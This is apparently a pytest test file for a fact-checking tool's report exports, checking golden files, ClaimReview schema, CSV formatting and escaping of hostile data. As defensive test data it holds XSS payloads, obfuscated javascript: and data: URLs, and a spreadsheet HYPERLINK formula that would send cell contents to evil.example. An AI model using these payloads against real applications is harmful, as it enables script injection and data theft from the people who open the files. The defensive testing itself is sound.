"""Tests of the report exports: golden files, ClaimReview schema, CSV, HTML in a browser, errors.

Golden files are compared byte for byte; regenerate them on purpose with UPDATE_GOLDEN=1.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from reviewdata import MINI_EVIDENCE, build_workspace
from typer.testing import CliRunner

from workbench import verdicts
from workbench.cli import app
from workbench.errors import ExitCode
from workbench.extract.claimant import guess_claimant
from workbench.report import FLOAT_DECIMALS, ReportOptions, render, safe_url
from workbench.report.claimreview import short_claim
from workbench.report.csv_report import csv_cell
from workbench.settings import load_settings
from workbench.workspace import Workspace

GOLDEN = Path(__file__).parent / "golden"
runner = CliRunner()

FIXTURES = Path(__file__).parent / "fixtures"
FIXED_AT = "2024-05-16T09:30:00Z"
HOSTILE = (
    "Le rapport <script>document.title='PWNED'</script> ne conclut pas "
    "<img src=x onerror=\"document.body.appendChild(document.createElement('pwned-marker'))\">"
    " à une collusion."
)
_MINI = {record["id"]: record for record in MINI_EVIDENCE}
EVIDENCE = [
    _MINI["en-call"],
    _MINI["en-mueller"],
    {
        "id": "fr-hostile",
        "title": "Une source <b>piégée</b> & « citée »",
        "text": HOSTILE,
        "url": "javascript:alert(1)",
        "publisher": "Exemple",
        "published": "2019-04-19",
        "lang": "fr",
    },
    _MINI["fr-helsinki"],
]
PUBLISH = """\
[publish]
organization = "Les Vérificateurs"
url = "https://example.org"
review_url = "https://example.org/fact-checks/{claim_id}"
"""


def passage_of(ws: Workspace, evidence_id: str) -> int:
    (passage_id,) = ws.conn.execute(
        "SELECT p.id FROM passages p JOIN documents d ON d.id = p.document_id "
        "WHERE d.doc_key = ? ORDER BY p.seq LIMIT 1",
        (evidence_id,),
    ).fetchone()
    return int(passage_id)


def fix_timestamps(ws: Workspace, at: str = FIXED_AT) -> None:
    """Replace the clock's times with a fixed one, so exports are byte-for-byte stable."""
    with ws.transaction() as conn:
        conn.execute("UPDATE verdicts SET updated_at = ?", (at,))
        conn.execute("UPDATE reviews SET created_at = ?, updated_at = ?", (at, at))
        conn.execute("UPDATE audit_log SET at = ?", (at,))
        conn.execute("UPDATE matches SET matched_at = ?", (at,))


def build_reviewed(root: Path, tmp: Path) -> Workspace:
    """The seed article's claims matched against EVIDENCE, four of them reviewed by "ana"."""
    evidence = tmp / "report-evidence.jsonl"
    evidence.write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in EVIDENCE), encoding="utf-8"
    )
    ws = build_workspace(
        root,
        evidence,
        FIXTURES / "sotchi-poutine-pompeo.fr.txt",
        url="https://example.org/articles/sotchi-poutine-pompeo",
        published="2019-05-15",
    )
    verdicts.set_verdict(ws, 2, "mostly-true", "ana")
    verdicts.set_note(ws, 2, "L'appel du 3 mai a bien eu lieu.", "ana")
    verdicts.cite(ws, 2, passage_of(ws, "en-call"), "ana")
    verdicts.set_verdict(ws, 3, "false", "ana")
    verdicts.set_note(
        ws, 3, 'Le rapport ne dit pas cela; "collusion" <non> établie & c\'est tout.', "ana"
    )
    verdicts.cite(ws, 3, passage_of(ws, "en-mueller"), "ana")
    verdicts.cite(ws, 3, passage_of(ws, "fr-hostile"), "ana")
    verdicts.set_verdict(ws, 4, "not-a-claim", "ana")
    verdicts.set_verdict(ws, 5, "unverifiable", "ana")
    verdicts.set_note(ws, 5, "Aucune source publique.", "ana")
    (root / "config.toml").write_text(PUBLISH, encoding="utf-8")
    fix_timestamps(ws)
    return ws


@pytest.fixture
def reviewed(tmp_path: Path) -> Path:
    root = tmp_path / "reviewed"
    build_reviewed(root, tmp_path).close()
    return root


def _export(root: Path, *args: str):
    return runner.invoke(app, ["export", "--workspace", str(root), *args])


def _report(root: Path, tmp_path: Path, *args: str) -> bytes:
    out = tmp_path / "report.out"
    result = _export(root, "-o", str(out), *args)
    assert result.exit_code == 0, result.output
    return out.read_bytes()


GOLDEN_CASES = [
    ("report.jsonl", ("--format", "jsonl")),
    ("report.claimreview.json", ("--format", "claimreview")),
    ("report.csv", ("--format", "csv")),
    ("report.fr.csv", ("--format", "csv", "--lang", "fr", "--status", "all")),
    ("report.md", ("--format", "markdown")),
    ("report.fr.md", ("--format", "markdown", "--lang", "fr")),
    ("report.html", ("--format", "html")),
]


@pytest.mark.parametrize(("name", "args"), GOLDEN_CASES, ids=[c[0] for c in GOLDEN_CASES])
def test_reports_match_their_golden_files(
    reviewed: Path, tmp_path: Path, name: str, args: tuple[str, ...]
) -> None:
    got = _report(reviewed, tmp_path, *args)
    golden = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN") == "1":
        golden.write_bytes(got)
    assert golden.exists(), f"{golden} is missing; run with UPDATE_GOLDEN=1 to create it"
    assert got == golden.read_bytes(), f"{name} differs; UPDATE_GOLDEN=1 regenerates on purpose"


def test_reports_never_read_the_clock(reviewed: Path, tmp_path: Path) -> None:
    for fmt in ("claimreview", "csv", "markdown", "html"):
        text = _report(reviewed, tmp_path, "--format", fmt).decode("utf-8")
        assert "2024-05-16" in text and "2025" not in text and "2026" not in text


CLAIMREVIEW_SCHEMA = {
    "type": "array",
    "items": {
        "type": "object",
        "required": [
            "@context",
            "@type",
            "claimReviewed",
            "author",
            "datePublished",
            "itemReviewed",
            "reviewRating",
        ],
        "properties": {
            "@context": {"const": "https://schema.org"},
            "@type": {"const": "ClaimReview"},
            "url": {"type": "string", "pattern": "^https?://"},
            "claimReviewed": {"type": "string", "minLength": 1, "maxLength": 75},
            "datePublished": {"type": "string", "pattern": r"^\d{4}-\d{2}-\d{2}$"},
            "author": {
                "type": "object",
                "required": ["@type", "name"],
                "properties": {"@type": {"const": "Organization"}, "name": {"minLength": 1}},
            },
            "itemReviewed": {
                "type": "object",
                "required": ["@type", "author", "appearance", "datePublished"],
                "properties": {
                    "@type": {"const": "Claim"},
                    "datePublished": {"type": "string", "pattern": r"^\d{4}-\d{2}-\d{2}$"},
                    "author": {
                        "type": "object",
                        "required": ["@type", "name"],
                        "properties": {"@type": {"enum": ["Person", "Organization"]}},
                    },
                    "appearance": {
                        "type": "object",
                        "required": ["@type", "url"],
                        "properties": {"url": {"type": "string", "pattern": "^https?://"}},
                    },
                },
            },
            "reviewRating": {
                "type": "object",
                "required": ["@type", "alternateName", "name"],
                "properties": {
                    "@type": {"const": "Rating"},
                    "alternateName": {"type": "string", "minLength": 1},
                    "ratingValue": {"type": "integer", "minimum": 1, "maximum": 6},
                    "bestRating": {"const": 6},
                    "worstRating": {"const": 1},
                },
                "dependentRequired": {"ratingValue": ["bestRating", "worstRating"]},
            },
        },
    },
}


def test_claimreview_is_valid_and_skips_unreviewed_and_not_a_claim(
    reviewed: Path, tmp_path: Path
) -> None:
    jsonschema = pytest.importorskip(
        "jsonschema", reason="jsonschema is not installed (add it to the dev extras)"
    )
    reviews = json.loads(_report(reviewed, tmp_path, "--format", "claimreview"))
    jsonschema.Draft202012Validator(CLAIMREVIEW_SCHEMA).validate(reviews)
    assert [r["url"].rsplit("/", 1)[1] for r in reviews] == ["2", "3", "5"]
    assert reviews[0]["author"] == {
        "@type": "Organization",
        "name": "Les Vérificateurs",
        "url": "https://example.org",
    }
    # The claimant, with the short name expanded from the article ("M. Poutine").
    assert reviews[0]["itemReviewed"]["author"] == {"@type": "Person", "name": "Vladimir Poutine"}
    assert reviews[1]["itemReviewed"]["author"] == {"@type": "Person", "name": "Vladimir Poutine"}
    assert reviews[0]["itemReviewed"]["datePublished"] == "2019-05-15"
    assert reviews[0]["itemReviewed"]["appearance"]["url"].endswith("/sotchi-poutine-pompeo")
    assert reviews[1]["reviewRating"]["ratingValue"] == 1
    assert reviews[1]["reviewRating"]["alternateName"] == "False"
    assert "ratingValue" not in reviews[2]["reviewRating"]  # unverifiable is not on the scale
    everything = json.loads(
        _report(reviewed, tmp_path, "--format", "claimreview", "--status", "all")
    )
    jsonschema.Draft202012Validator(CLAIMREVIEW_SCHEMA).validate(everything)
    assert len(everything) == 4  # not-a-claim included; unreviewed claims have no review


def test_claimreview_without_review_url_omits_url_and_warns(reviewed: Path) -> None:
    (reviewed / "config.toml").unlink()
    result = _export(reviewed, "--format", "claimreview")
    assert result.exit_code == 0
    assert all("url" not in r for r in json.loads(result.stdout))
    assert "review_url" in result.stderr
    assert json.loads(result.stdout)[0]["author"]["name"] == "Fact-check workbench"


def test_claimant_guess_and_short_claim() -> None:
    assert guess_claimant("M. Poutine a déclaré qu'il viendrait.") == "Poutine"
    assert guess_claimant("Vladimir Putin said the talks went well.") == "Vladimir Putin"
    assert guess_claimant('"Nous le ferons", a indiqué M. Poutine à M. Pompeo.') == "Poutine"
    assert guess_claimant("Russia and the US share interests.") == ""
    long = "word " * 40
    assert len(short_claim(long)) <= 75 and short_claim(long).endswith("…")
    assert short_claim("Short claim.") == "Short claim."


def test_publish_settings_are_read(tmp_path: Path) -> None:
    assert load_settings(tmp_path).publish.organization == "Fact-check workbench"
    (tmp_path / "config.toml").write_text(PUBLISH, encoding="utf-8")
    publish = load_settings(tmp_path).publish
    assert publish.review_url.format(claim_id=7) == "https://example.org/fact-checks/7"
    assert publish.url == "https://example.org"


def test_csv_is_rfc4180_with_bom_and_crlf(reviewed: Path, tmp_path: Path) -> None:
    data = _report(reviewed, tmp_path, "--format", "csv", "--lang", "fr")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["claim_id"] for r in rows] == ["2", "3", "5"]
    assert rows[1]["verdict"] == "Faux" and rows[0]["verdict"] == "Plutôt vrai"
    assert rows[1]["note"].startswith("Le rapport ne dit pas cela;")
    assert rows[1]["evidence_url"] == "https://example.org/mueller"
    assert rows[1]["date"] == FIXED_AT and rows[1]["reviewer"] == "ana"


def test_article_filter(reviewed: Path, tmp_path: Path) -> None:
    name = "sotchi-poutine-pompeo.fr.txt"
    md = _report(reviewed, tmp_path, "--format", "markdown", "--article", name).decode()
    assert md.startswith(f"# Fact-check report: {name}")
    result = _export(reviewed, "--format", "markdown", "--article", "nope.txt")
    assert result.exit_code != 0 and "no article named 'nope.txt'" in result.stderr


def test_html_escapes_every_piece_of_text(reviewed: Path, tmp_path: Path) -> None:
    page = _report(reviewed, tmp_path, "--format", "html").decode()
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;document.title=&#x27;PWNED&#x27;&lt;/script&gt;" in page
    assert "javascript:" not in page  # an unsafe link is shown as text, not linked
    assert "&lt;non&gt; établie &amp; c&#x27;est tout" in page
    assert "Content-Security-Policy" in page and "script-src &#x27;none&#x27;" in page
    assert 'name="viewport"' in page and "@media print" in page and "<svg" in page
    assert "<link" not in page and 'src="' not in page and "url(" not in page  # self-contained


def test_markdown_has_counts_and_quoted_evidence(reviewed: Path, tmp_path: Path) -> None:
    md = _report(reviewed, tmp_path, "--format", "markdown").decode()
    assert "| False | 1 |" in md and "| Mostly true | 1 |" in md and "| Unverifiable | 1 |" in md
    assert "Not a claim" not in md
    assert "> — [What the special counsel found](<https://example.org/mueller>)" in md
    assert "<script>" not in md and "&lt;script&gt;" in md


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(
    _chromium() is None,
    reason="chromium is not installed (CI installs it: apt-get install -y chromium)",
)
def test_html_renders_in_a_headless_browser_without_running_injected_script(
    reviewed: Path, tmp_path: Path
) -> None:
    page = tmp_path / "report.html"
    assert _export(reviewed, "--format", "html", "-o", str(page)).exit_code == 0
    shot = tmp_path / "shot.png"
    common = [
        _chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
        "--no-first-run", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
    ]  # fmt: skip
    subprocess.run(
        [*common, f"--screenshot={shot}", "--window-size=1200,2000", page.as_uri()],
        capture_output=True,
        timeout=120,
        check=True,
    )
    assert shot.exists() and shot.read_bytes().startswith(b"\x89PNG")
    dom = subprocess.run(
        [*common, "--dump-dom", page.as_uri()],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    ).stdout
    assert "<title>Fact-check report</title>" in dom  # the injected script did not rename it
    assert "PWNED</title>" not in dom and "pwned-marker" not in dom.replace(
        "createElement('pwned-marker')", ""
    )
    assert "<pwned-marker" not in dom
    assert 'id="claim-2"' in dom and 'id="claim-3"' in dom and 'id="claim-5"' in dom
    assert "&lt;script&gt;document.title='PWNED'&lt;/script&gt;" in dom  # shown as text


@pytest.fixture
def empty_root(tmp_path: Path) -> Path:
    root = tmp_path / "empty"
    Workspace.open(root, create=True).close()
    return root


@pytest.mark.parametrize("fmt", ["jsonl", "claimreview", "csv", "markdown", "html"])
def test_an_empty_workspace_gives_a_valid_empty_report(empty_root: Path, fmt: str) -> None:
    result = _export(empty_root, "--format", fmt)
    assert result.exit_code == 0, result.output
    assert "no " in result.stderr and "empty" in result.stderr
    out = result.stdout
    if fmt == "claimreview":
        assert json.loads(out) == []
    elif fmt == "csv":
        data = result.stdout_bytes
        assert data.startswith("\ufeffclaim_id,".encode()) and data.count(b"\r\n") == 1
    elif fmt == "jsonl":
        assert out == ""
    else:
        assert "No claims to report." in out


def test_an_unwritable_output_leaves_no_partial_file(
    reviewed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = _export(reviewed, "--format", "html", "-o", str(tmp_path / "missing" / "r.html"))
    assert result.exit_code == ExitCode.FAILURE and "cannot write" in result.stderr
    result = _export(reviewed, "--format", "csv", "-o", str(tmp_path))
    assert result.exit_code == ExitCode.FAILURE and "is a folder" in result.stderr
    out_dir = tmp_path / "out"
    out_dir.mkdir()

    def full_disk(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    result = _export(reviewed, "--format", "markdown", "-o", str(out_dir / "r.md"))
    assert result.exit_code == ExitCode.FAILURE
    assert "cannot write" in result.stderr and "No space left" in result.stderr
    assert list(out_dir.iterdir()) == []


def test_unknown_format_status_and_language_are_refused(reviewed: Path) -> None:
    result = _export(reviewed, "--format", "docx")
    assert result.exit_code != 0 and "unknown format 'docx'" in result.stderr
    result = _export(reviewed, "--format", "csv", "--status", "some")
    assert result.exit_code != 0 and "unknown status" in result.stderr
    result = _export(reviewed, "--format", "csv", "--lang", "de")
    assert result.exit_code != 0 and "unknown language" in result.stderr


def _csv_ids(data: bytes) -> list[int]:
    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    return [int(row["claim_id"]) for row in rows]


def test_reports_leave_out_low_claims_nobody_took_up(reviewed: Path, tmp_path: Path) -> None:
    with Workspace.open(reviewed) as ws:
        every = [c.id for c in ws.claims()]
        hidden = ws.hidden_claims()
        assert hidden  # the seed article has claims under the rules' threshold
        noted = min(hidden)
        verdicts.set_note(ws, noted, "Chiffre à recouper.", "ana")  # taken up: reported
        fix_timestamps(ws)
    left_out = sorted(hidden - {noted})
    # Never in the review queue, so never reported as a claim the desk did not review.
    result = _export(reviewed, "--format", "csv", "--status", "all")
    assert result.exit_code == 0, result.output
    assert _csv_ids(result.stdout_bytes) == [i for i in every if i not in left_out]
    n = len(left_out)
    assert (
        f"workbench: left out {n} claim{'s' if n != 1 else ''} of low check-worthiness that "
        "nobody took up (never in the review queue; --low includes them)"
    ) in result.stderr.splitlines()
    for fmt in ("markdown", "html"):
        text = _export(reviewed, "--format", fmt, "--status", "all").stdout
        assert f"{len(every) - n} claims." in text
    # Asked for, they are there; the lossless JSONL always has them.
    result = _export(reviewed, "--format", "csv", "--status", "all", "--low")
    assert _csv_ids(result.stdout_bytes) == every and "low check-worthiness" not in result.stderr
    result = _export(reviewed, "--format", "jsonl")
    assert [json.loads(line)["claim_id"] for line in result.stdout.splitlines()] == every
    assert "low check-worthiness" not in result.stderr
    # Reviewed claims only, or ClaimReview (no object without a verdict): none left out.
    for args in (("--format", "csv"), ("--format", "claimreview", "--status", "all")):
        result = _export(reviewed, *args)
        assert result.exit_code == 0 and "low check-worthiness" not in result.stderr


def test_render_is_pure() -> None:
    row = {
        "claim_id": 1, "claim": "X said <b>it</b>.", "article": "a.txt", "lang": "en",
        "verdict": {"verdict": "true", "note": "", "reviewer": "r", "cited": [],
                    "updated_at": FIXED_AT},
    }  # fmt: skip
    for fmt in ("claimreview", "csv", "markdown", "html"):
        assert render(fmt, [row], ReportOptions()) == render(fmt, [row], ReportOptions())


# ---------------------------------------------------------------------------------------------
# Hostile data: evidence, claims, notes and reviewer names that try to run code wherever the
# export is opened (spreadsheet formulas, </script>, javascript: and data: links, Markdown links).

HOSTILE_EVIDENCE = FIXTURES / "hostile-evidence.jsonl"
HOSTILE_CLAIMS = FIXTURES / "hostile-claims.jsonl"
SAFE_URLS = {"https://example.org/impots?a=1&b=2", "/archives/impots-2024.html"}
# The fixture's evidence has 7 unsafe `url`s and one unsafe `image_url` (an extra field); every
# passage is matched to every claim, so each export's data holds all 8.
UNSAFE_URLS = 8
HOSTILE_NOTE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"ok") </script><script>alert(1)</script> '
    "[lien](javascript:alert(2)) <img src=x onerror=alert(3)>"
)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d")


def _cli(*args: str):
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace built through the CLI from the hostile fixtures: three claims reviewed,
    each citing three hostile or safe passages, with a hostile note and reviewer names."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    ws = ("--workspace", str(root))
    _cli("ingest", str(HOSTILE_EVIDENCE), "--model", "hash:64", *ws)
    matched = _cli("match", str(HOSTILE_CLAIMS), "--top-k", "9", *ws).stdout
    records = [json.loads(line) for line in matched.splitlines() if line.strip()]
    assert len(records) == 4 and all(len(r["matches"]) == 9 for r in records)
    passage = {m["evidence_id"]: m["passage_id"] for m in records[0]["matches"]}
    ids = [str(r["claim_id"]) for r in records]

    def cite(*names: str) -> list[str]:
        return [arg for name in names for arg in ("--cite", str(passage[name]))]

    _cli("verdict", ids[0], "false", "--note", HOSTILE_NOTE, "--reviewer", "@ana", *ws,
         *cite("formula-title", "markdown-links", "control-chars"))  # fmt: skip
    _cli("verdict", ids[1], "mostly-false", "--note", "+1 -1", "--reviewer", "-ana", *ws,
         *cite("script-text", "entity-url", "vbscript-url"))  # fmt: skip
    _cli("verdict", ids[2], "true", "--reviewer", "=ana", *ws,
         *cite("file-url", "safe-url", "relative-url"))  # fmt: skip
    return root


def _hostile_export(root: Path, fmt: str, *args: str) -> tuple[str, str]:
    result = _export(root, "--format", fmt, *args)
    assert result.exit_code == 0, result.output
    notes = [line for line in result.stderr.splitlines() if "left out" in line]
    # One line per export, however many cells held an unsafe URL.
    assert notes == [
        f"workbench: left out {UNSAFE_URLS} URLs that are not a safe web link "
        "(only http, https and relative URLs are exported)"
    ]
    return result.stdout_bytes.decode("utf-8"), result.stderr


def _url_values(value: object, key: str = "") -> list[str]:
    """Every string under a URL-like key ("url", "image_url", ...) in parsed JSON."""
    if isinstance(value, dict):
        return [u for k, v in value.items() for u in _url_values(v, k)]
    if isinstance(value, list):
        return [u for v in value for u in _url_values(v, key)]
    return [value] if isinstance(value, str) and key.split("_")[-1] in ("url", "link") else []


def test_hostile_csv_has_no_cell_a_spreadsheet_would_run(hostile: Path) -> None:
    text, _ = _hostile_export(hostile, "csv", "--status", "all")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 4
    cells = [cell for row in body for cell in row]
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) or c.lstrip().startswith("=")]
    assert live == []
    by_name = [dict(zip(header, row, strict=True)) for row in body]
    # The neutralised cells keep their text after the apostrophe: claim, article, note, names.
    first = by_name[0]
    assert first["claim"].startswith("'=HYPERLINK(") and first["article"].startswith("'=")
    assert first["note"] == "'" + HOSTILE_NOTE and first["reviewer"] == "'@ana"
    assert first["evidence_title"].startswith("'=HYPERLINK(") and first["evidence_text"][1] == "="
    assert by_name[1]["claim"].startswith("'-5 %") and by_name[1]["note"] == "'+1 -1"
    assert by_name[2]["reviewer"] == "'=ana"
    assert sum(c.startswith("'") for c in cells) >= 20
    assert {r["evidence_url"] for r in by_name} <= {"", *SAFE_URLS}
    # Numbers the workbench writes stay numbers (unquoted); every text cell is quoted, so a
    # spreadsheet splitting on ';' cannot start a formula cell in the middle of one.
    lines = text.removeprefix("\ufeff").split("\r\n")
    assert lines[1].startswith("1,\"'=HYPERLINK(") and ',"False","false",1,"' in lines[1]


def test_hostile_claimreview_is_safe_inside_a_script_element(hostile: Path) -> None:
    from html.parser import HTMLParser

    text, _ = _hostile_export(hostile, "claimreview")
    assert not set("<>&\u2028\u2029") & set(text)
    reviews = json.loads(text)
    assert len(reviews) == 3
    assert "</script><script>" in reviews[1]["claimReviewed"]  # the text itself is kept

    class Scripts(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: list[str] = []
            self.data: list[str] = []

        def handle_starttag(self, tag: str, attrs: list) -> None:
            self.tags.append(tag)

        def handle_data(self, data: str) -> None:
            self.data.append(data)

    page = Scripts()
    page.feed(f'<html><head><script type="application/ld+json">{text}</script></head></html>')
    assert page.tags == ["html", "head", "script"]  # nothing broke out of the element
    assert json.loads("".join(page.data)) == reviews
    urls = _url_values(reviews)
    assert all(u.startswith("https://") for u in urls)


def test_claimreview_refuses_unsafe_or_broken_publish_urls(hostile: Path) -> None:
    (hostile / "config.toml").write_text(
        '[publish]\nurl = "javascript:alert(1)"\nreview_url = " JAVASCRIPT:alert(2)//{claim_id}"\n',
        encoding="utf-8",
    )
    try:
        result = _export(hostile, "--format", "claimreview")
        assert result.exit_code == 0, result.output
        assert f"left out {UNSAFE_URLS + 2} URLs" in result.stderr
        reviews = json.loads(result.stdout)
        assert all("url" not in r and "url" not in r["author"] for r in reviews)
        (hostile / "config.toml").write_text(
            '[publish]\nreview_url = "https://example.org/{id}"\n', encoding="utf-8"
        )
        result = _export(hostile, "--format", "claimreview")
        assert result.exit_code == ExitCode.BAD_INPUT and "Traceback" not in result.output
        assert "review_url 'https://example.org/{id}' is not a template" in result.stderr
    finally:
        (hostile / "config.toml").unlink()


class _Tags:
    """The tags and attributes of an HTML text, as a browser's tokenizer reads them."""

    def __init__(self, text: str) -> None:
        from html.parser import HTMLParser

        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        outer = self

        class Parser(HTMLParser):
            def handle_starttag(self, tag: str, attrs: list) -> None:
                outer.tags.append(tag)
                outer.attrs += [(name.lower(), value) for name, value in attrs]

        Parser().feed(text)

    def hrefs(self) -> list[str]:
        return [value or "" for name, value in self.attrs if name in ("href", "src")]


def test_hostile_markdown_renders_nothing_live(hostile: Path) -> None:
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    pytest.importorskip("linkify_it", reason="linkify-it-py is not installed")
    text, _ = _hostile_export(hostile, "markdown")
    # GFM-like: raw HTML allowed, bare URLs linkified, as a lenient publishing site would be.
    rendered = markdown_it.MarkdownIt("gfm-like").render(text)
    tags = _Tags(rendered)
    assert set(tags.tags) <= {"h1", "h2", "h3", "p", "blockquote", "table", "thead", "tbody",
                              "tr", "th", "td", "strong", "em", "a"}  # fmt: skip
    assert not [name for name, _ in tags.attrs if name.startswith("on")]
    # The only links are the two safe evidence URLs, in their citations.
    assert sorted(tags.hrefs()) == sorted(
        ["https://example.org/impots?a=1&b=2", "/archives/impots-2024.html"]
    )
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in rendered  # shown as text
    assert "www.evil.example et https://evil.example/phish" in rendered  # readable, not linked
    assert "[lien](javascript:alert(2))" in rendered


def test_hostile_html_has_no_script_handler_or_unsafe_link(hostile: Path) -> None:
    page, _ = _hostile_export(hostile, "html")
    tags = _Tags(page)
    assert not {"script", "img", "iframe", "object", "embed", "svg:script"} & set(tags.tags)
    assert not [name for name, _ in tags.attrs if name.startswith("on")]
    assert sorted(tags.hrefs()) == sorted(SAFE_URLS)
    assert "javascript" not in page.lower().replace("javascript:alert(", "")
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_hostile_jsonl_keeps_only_safe_urls_and_rounded_floats(hostile: Path) -> None:
    text, _ = _hostile_export(hostile, "jsonl")
    records = [json.loads(line) for line in text.splitlines()]
    assert len(records) == 4
    urls = set(_url_values(records))
    assert urls <= {"", *SAFE_URLS} and urls >= SAFE_URLS
    evidence = {m["evidence_id"]: m for m in records[0]["matches"]}
    assert evidence["control-chars"]["url"] == "" and evidence["control-chars"]["extra"] == {
        "image_url": ""
    }
    # The texts are kept as they are: JSONL is data, only links are gated.
    assert "</script><script>" in evidence["script-text"]["text"]
    scores = [m["score"] for r in records for m in r["matches"]]
    assert scores and all(round(s, 4) == s for s in scores)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "  JaVaScRiPt:alert(1)",
        "\x00javascript:alert(1)", "\x01\x1fjavascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)", "java\rscript:alert(1)", "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)", "&#106avascript:alert(1)", "javascript&colon;alert(1)",
        "&amp;#106;avascript:alert(1)", "jav&#x09;ascript:alert(1)", "java\\script:alert(1)",
        "java\u200bscript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "DATA:image/svg+xml;base64,PHN2Zz4=", "vbscript:msgbox(1)", "VbScript:msgbox(1)",
        "file:///etc/passwd", "FILE://c:/windows", "\u3000javascript:alert(1)",
        "&#38;#106;avascript:alert(1)",
    ],
)  # fmt: skip
def test_safe_url_refuses_every_disguise_of_a_dangerous_scheme(url: str) -> None:
    assert safe_url(url) == ""
    assert safe_url(url, relative=False) == ""


def test_safe_url_keeps_web_and_relative_links() -> None:
    assert safe_url("https://example.org/a?b=1&c=2") == "https://example.org/a?b=1&c=2"
    assert safe_url("  HTTP://Example.org/x\n") == "HTTP://Example.org/x"
    assert safe_url("https://exa\tmple.org/") == "https://example.org/"
    for relative in ("/archives/x.html", "x.html", "../x", "#top", "?q=1", "//example.org/x"):
        assert safe_url(relative) == relative
        assert safe_url(relative, relative=False) == ""  # ClaimReview wants absolute URLs
    assert safe_url("") == safe_url(None) == safe_url(" \x00 ") == ""


def test_exported_floats_are_rounded_so_the_last_bit_cannot_change_a_golden() -> None:
    np = pytest.importorskip("numpy")
    assert FLOAT_DECIMALS == 4

    def row(score: float) -> dict:
        return {
            "claim_id": 1, "claim": "c", "article": "a", "lang": "en", "score": 0.55,
            "matches": [{"score": score, "signals": {"hash:64": score, "bridge_rank": 1}}],
        }  # fmt: skip

    # The failure a fresh machine saw: the sixth decimal moved with the BLAS build.
    assert render("jsonl", [row(0.518926)], ReportOptions()) == render(
        "jsonl", [row(0.5189271)], ReportOptions()
    )
    out = json.loads(render("jsonl", [row(np.float32(0.51892614))], ReportOptions()))
    assert out["matches"][0] == {"score": 0.5189, "signals": {"hash:64": 0.5189, "bridge_rank": 1}}
    assert out["score"] == 0.55
    for odd, written in ((float("nan"), None), (float("inf"), None), (-0.00001, 0.0)):
        got = json.loads(render("jsonl", [row(odd)], ReportOptions()))["matches"][0]["score"]
        assert got == written and str(got) != "-0.0"


def test_csv_cells_neutralise_text_but_keep_numbers() -> None:
    assert csv_cell(-3) == -3 and csv_cell(-0.123456) == -0.1235 and csv_cell(2) == 2
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1+1", "\0x"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("Le ministre = 5 %") == "Le ministre = 5 %" and csv_cell(None) == ""
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC).writerow(
        [csv_cell(-1.5), csv_cell("-1.5"), csv_cell("a;=b")]
    )
    assert buffer.getvalue() == '-1.5,"\'-1.5","a;=b"\r\n'


@pytest.mark.skipif(
    _chromium() is None,
    reason="chromium is not installed (CI installs it: apt-get install -y chromium)",
)
def test_hostile_html_in_a_headless_browser_has_no_element_or_link_from_the_data(
    hostile: Path, tmp_path: Path
) -> None:
    page = tmp_path / "hostile.html"
    assert _export(hostile, "--format", "html", "-o", str(page)).exit_code == 0
    dom = subprocess.run(
        [
            _chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    ).stdout  # fmt: skip
    tags = _Tags(dom)
    assert "main" in tags.tags and not {"script", "img", "iframe", "b"} & set(tags.tags)
    assert not [name for name, _ in tags.attrs if name.startswith("on")]
    assert sorted(tags.hrefs()) == sorted(SAFE_URLS)
    assert "<title>Fact-check report</title>" in dom


def test_urls_in_lists_under_a_url_key_pass_the_gate_too() -> None:
    from workbench.report import clean

    dropped: set[str] = set()
    row = {"links": ["https://ok.example/a", " JaVaScRiPt:alert(1)"], "score": 0.123456789}
    row["sources"] = [{"url": "data:text/html,x", "title": "javascript:x"}]
    cleaned = clean(row, dropped)
    assert cleaned["links"] == ["https://ok.example/a", ""]
    assert cleaned["sources"] == [{"url": "", "title": "javascript:x"}]  # a title is text
    assert cleaned["score"] == 0.1235
    assert dropped == {" JaVaScRiPt:alert(1)", "data:text/html,x"}
